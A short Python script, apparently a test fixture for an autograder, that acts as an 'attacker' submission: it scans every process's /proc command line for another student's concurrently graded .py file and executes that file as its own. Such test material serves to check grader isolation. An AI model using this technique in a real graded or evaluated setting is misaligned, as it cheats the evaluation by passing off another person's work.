"""An attacker with no hooks of its own that looks for a classmate graded at the same time
(through every process's command line) and runs the classmate's file as its own."""

import os
import sys
import time

mine = sys.argv[2] if len(sys.argv) > 2 else ""
end = time.time() + 1.5
while time.time() < end:
    for pid in os.listdir("/proc"):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        for arg in (a.decode(errors="replace") for a in argv):
            if arg.endswith(".py") and "submission" in arg and arg != mine:
                try:
                    exec(compile(open(arg).read(), "copied", "exec"), globals())
                    end = 0
                except Exception:
                    pass
    time.sleep(0.05)
